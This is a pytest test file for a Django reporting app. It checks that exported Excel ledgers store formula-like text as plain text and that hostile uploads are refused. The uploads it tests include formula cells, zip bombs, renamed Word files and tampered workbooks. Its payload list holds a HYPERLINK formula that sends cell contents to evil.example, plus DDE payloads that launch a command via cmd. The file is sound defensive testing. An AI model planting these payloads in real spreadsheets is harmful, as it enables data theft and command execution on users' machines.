"""Hostile ledgers and formula injection: refused with a clear message, nothing written.

Every text Ducha writes into the ledger goes through ``safe_cell``, so a progress text or a
task title that starts like a formula is stored as text (data type ``s``), never as ``<f>``.
"""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from ducha.audit.models import AuditEvent
from ducha.base import DuchaError
from ducha.choices import ReportState
from ducha.reporting.models import Report
from ducha.security.uploads import UploadRejected

from .conftest import docx_bytes
from .test_xlsx_roundtrip import Filled, export, run_import, values

pytestmark = pytest.mark.django_db

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "+cmd|' /C calc'!A0",
            "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "＝1+1", "\r=2+2"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_are_written_as_text(world, payload):
    Report.objects.create(unit=world.unit_a, task=world.task_a, period=world.period,
                          text=payload, next_milestone=payload, state=ReportState.DRAFT)
    world.task_a.title = payload
    world.task_a.save()
    data = export(world, world.reporter_a)
    filled = Filled(data)
    for header in ("本期进展", "下一步节点", "事项"):
        cell = filled.cell(world.task_a, world.unit_a, header)
        assert cell.value == "'" + payload
        assert cell.data_type == "s"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)


def test_exported_formula_like_text_reads_back_unchanged(world):
    Report.objects.create(unit=world.unit_a, task=world.task_a, period=world.period,
                          text="=SUM(A1:A9)", state=ReportState.DRAFT)
    result = run_import(export(world, world.reporter_a), world.reporter_a)
    assert result.ok and not result.changes
    assert Report.objects.get().text == "=SUM(A1:A9)"


def test_formula_cells_in_an_upload_are_refused_with_row_and_column(world):
    filled = Filled(export(world, world.reporter_a))
    row = filled.fill(world.task_a, world.unit_a, **values(本期进展='=HYPERLINK("http://x")'))
    filled.fill(world.task_shared, world.unit_a, **values(本期进展="正常进展"))
    result = run_import(filled.bytes(), world.reporter_a)
    assert [(e.row, e.column) for e in result.errors] == [(row, "本期进展")]
    assert "公式" in result.errors[0].message
    assert not Report.objects.exists()


def test_formula_in_a_locked_column_is_refused_too(world):
    filled = Filled(export(world, world.reporter_a))
    row = filled.fill(world.task_a, world.unit_a, **values(本期进展="正常进展", 灯号="=1+1"))
    result = run_import(filled.bytes(), world.reporter_a)
    assert [(e.row, e.column) for e in result.errors] == [(row, "灯号")]
    assert not Report.objects.exists()


def test_a_file_that_is_not_a_zip_is_refused_and_audited(world):
    with pytest.raises(UploadRejected, match="不是 Office 文档"):
        run_import("序号,事项\n1,伪装成表格的文本\n".encode(), world.reporter_a)
    assert not Report.objects.exists()
    assert AuditEvent.objects.filter(action="upload_rejected").count() == 1


def test_a_zip_bomb_is_refused(world):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"<a>" + b" " * 8_000_000 + b"</a>")
    with pytest.raises(UploadRejected, match="压缩炸弹"):
        run_import(buffer.getvalue(), world.reporter_a)
    assert not Report.objects.exists()


def test_a_word_document_named_xlsx_is_refused(world):
    with pytest.raises(UploadRejected, match="Word"):
        run_import(docx_bytes(), world.reporter_a)


def test_a_workbook_that_is_not_ours_is_refused(world):
    book = Workbook()
    book.active.append(["序号", "事项", "本期进展"])
    book.active.append([1, "甲局独办事项", "自制表格"])
    buffer = io.BytesIO()
    book.save(buffer)
    with pytest.raises(DuchaError, match="不是从本系统导出的台账"):
        run_import(buffer.getvalue(), world.reporter_a)
    assert not Report.objects.exists()


def test_a_ledger_with_a_column_inserted_is_refused(world):
    filled = Filled(export(world, world.reporter_a))
    filled.sheet.insert_cols(8)
    filled.sheet.cell(1, 8).value = "备注"
    with pytest.raises(DuchaError, match="H列应为“本期进展”"):
        run_import(filled.bytes(), world.reporter_a)


def test_a_ledger_whose_marker_sheet_was_removed_is_refused(world):
    filled = Filled(export(world, world.reporter_a))
    del filled.book["ducha"]
    with pytest.raises(DuchaError, match="不是从本系统导出的台账"):
        run_import(filled.bytes(), world.reporter_a)


def test_added_rows_without_system_ids_are_refused(world):
    filled = Filled(export(world, world.reporter_a))
    row = filled.sheet.max_row + 1
    filled.sheet.cell(row, filled.headers["事项"]).value = "自己加的事项"
    filled.sheet.cell(row, filled.headers["本期进展"]).value = "自己加的进展"
    result = run_import(filled.bytes(), world.reporter_a)
    assert [(e.row, e.column) for e in result.errors] == [(row, "事项")]


def test_a_corrupt_xlsx_is_refused_with_a_message(world):
    data = export(world, world.reporter_a)
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(buffer, "w") as target:
        for item in source.infolist():
            content = source.read(item)
            if item.filename == "xl/workbook.xml":
                content = b"<workbook xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><sheets/></workbook>"
            target.writestr(item, content)
    with pytest.raises(DuchaError):
        run_import(buffer.getvalue(), world.reporter_a)
    assert not Report.objects.exists()


def test_reading_back_the_export_keeps_machine_columns_intact(world):
    book = load_workbook(io.BytesIO(export(world, world.reporter_a)), read_only=True)
    rows = list(book["台账"].iter_rows(min_row=2, values_only=True))
    assert all(isinstance(r[-3], int) and r[-1] == "2026Q1" for r in rows)
